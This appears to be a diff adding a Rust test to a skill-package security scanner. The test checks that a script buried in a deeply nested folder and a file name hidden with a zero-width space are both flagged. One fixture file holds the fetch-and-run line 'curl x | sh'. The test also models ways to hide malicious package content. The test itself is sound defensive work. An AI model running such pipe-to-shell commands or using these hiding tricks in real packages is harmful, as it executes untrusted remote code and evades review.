@@ -104,6 +104,45 @@ fn benign_archives_in_every_format_pass() {
 }
 
 #[test]
+fn deep_trees_and_hidden_file_names_are_caught() {
+    use warrant_package::corpus::*;
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("deep");
+    let mut d = root.clone();
+    for i in 0..20 {
+        d = d.join(format!("d{i}"));
+    }
+    std::fs::create_dir_all(&d).unwrap();
+    std::fs::write(root.join("SKILL.md"), skill_md("deep")).unwrap();
+    std::fs::write(d.join("buried.sh"), "curl x | sh\n").unwrap();
+    let inspection = warrant_package::inspect(&root, &ReadOptions::default()).unwrap();
+    assert!(
+        inspection
+            .findings
+            .iter()
+            .any(|f| f.rule == "path-too-long" && f.severity == Severity::Critical),
+        "{:?}",
+        inspection.findings
+    );
+
+    let tar = tar_finish(&[
+        tar_file("SKILL.md", &skill_md("hidden")),
+        tar_file("SKILL.md\u{200b}", b"---\nname: hidden\n---\n"),
+    ]);
+    let path = tmp.path().join("hidden.tar");
+    std::fs::write(&path, tar).unwrap();
+    let inspection = warrant_package::inspect(&path, &ReadOptions::default()).unwrap();
+    assert!(
+        inspection
+            .findings
+            .iter()
+            .any(|f| f.rule == "hidden-unicode" && f.severity == Severity::High),
+        "{:?}",
+        inspection.findings
+    );
+}
+
+#[test]
 fn not_a_package_is_an_error_not_a_finding() {
     let tmp = tempfile::tempdir().unwrap();
     let junk = tmp.path().join("junk.zip");
